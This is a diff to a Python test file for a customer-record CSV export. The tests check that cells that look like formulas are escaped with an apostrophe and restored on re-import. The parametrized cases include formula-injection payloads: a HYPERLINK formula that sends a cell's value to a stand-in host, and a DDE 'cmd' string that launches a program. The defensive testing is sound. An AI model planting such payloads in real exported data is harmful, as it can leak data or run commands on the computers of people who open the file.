@@ -13,6 +13,7 @@ from apps.accounts.models import User
 from apps.core.actors import SystemActor
 from apps.core.exceptions import NotAllowed
 from apps.core.models import AuditEntry
+from apps.customers.importing.files import neutralize_formula, unescape_cell
 from apps.customers.models import (
     ContactPoint,
     Customer,
@@ -78,8 +79,8 @@ def test_export_writes_the_columns_the_importer_reads(people: list[Customer], su
         "email": "ada@example.com",
         "email_2": "",
         "email_3": "",
-        "phone": "+14155550101",
-        "phone_2": "+14155550102",
+        "phone": "'+14155550101",
+        "phone_2": "'+14155550102",
         "phone_3": "",
         "organization": "Engines",
         "job_title": "",
@@ -148,3 +149,62 @@ def test_reimporting_the_export_changes_nothing(people: list[Customer], supervis
         sorted(Customer.tags.through.objects.values_list("customer_id", "tag_id")),
     )
     assert after == before
+
+
+@pytest.mark.parametrize(
+    ("stored", "written"),
+    [
+        ('=HYPERLINK("http://x.example/?"&A1,"open")', '\'=HYPERLINK("http://x.example/?"&A1,"open")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("Ada = Countess", "Ada = Countess"),
+        ("O'Brien", "O'Brien"),
+    ],
+)
+def test_export_writes_formula_like_cells_as_text(stored: str, written: str, supervisor: User) -> None:
+    # Given a customer whose name a spreadsheet would run as a formula
+    customer_create(actor=SystemActor("test setup"), first_name=stored, last_name="Hopper", job_title=stored)
+
+    # When it is exported
+    rows = export(supervisor)
+
+    # Then the cell starts with an apostrophe exactly when it would be a formula
+    assert (rows[0]["first_name"], rows[0]["job_title"], rows[0]["last_name"]) == (written, written, "Hopper")
+
+
+def test_cells_starting_with_tab_or_carriage_return_are_written_as_text() -> None:
+    # Names are stripped when stored, but custom text fields and tags may keep them
+    assert [neutralize_formula(v) for v in ("\t=1", "\r=1", "a\t=1", "")] == ["'\t=1", "'\r=1", "a\t=1", ""]
+    assert [unescape_cell(v) for v in ("'\t=1", "'=1", "'a", "'")] == ["\t=1", "=1", "'a", "'"]
+
+
+def test_reimporting_neutralized_cells_restores_the_values(supervisor: User) -> None:
+    # Given customers exported with formula-like names and phones (written with an apostrophe)
+    customer_create(
+        actor=SystemActor("test setup"),
+        first_name="=1+2",
+        last_name="@home",
+        contacts=[ContactInput(kind="phone", value="+14155550101")],
+    )
+    out = io.StringIO()
+    customers_export_csv(actor=supervisor, queryset=customer_filter({}), stream=out)
+    assert "'=1+2,'@home" in out.getvalue()
+    before = list(Customer.objects.values("first_name", "last_name"))
+
+    # When the export is imported again
+    job = imports.import_job_create(
+        actor=supervisor,
+        uploaded_file=ContentFile(out.getvalue().encode(), name="export.csv"),
+        file_name="export.csv",
+        source="test",
+    )
+    job = imports.import_job_run(job_id=job.pk)
+
+    # Then nothing changes: the apostrophes are read back as the export's escaping
+    assert (job.created_count, job.updated_count, job.unchanged_count, job.rejected_count) == (0, 0, 1, 0)
+    assert (
+        list(Customer.objects.values("first_name", "last_name"))
+        == before
+        == [{"first_name": "=1+2", "last_name": "@home"}]
+    )
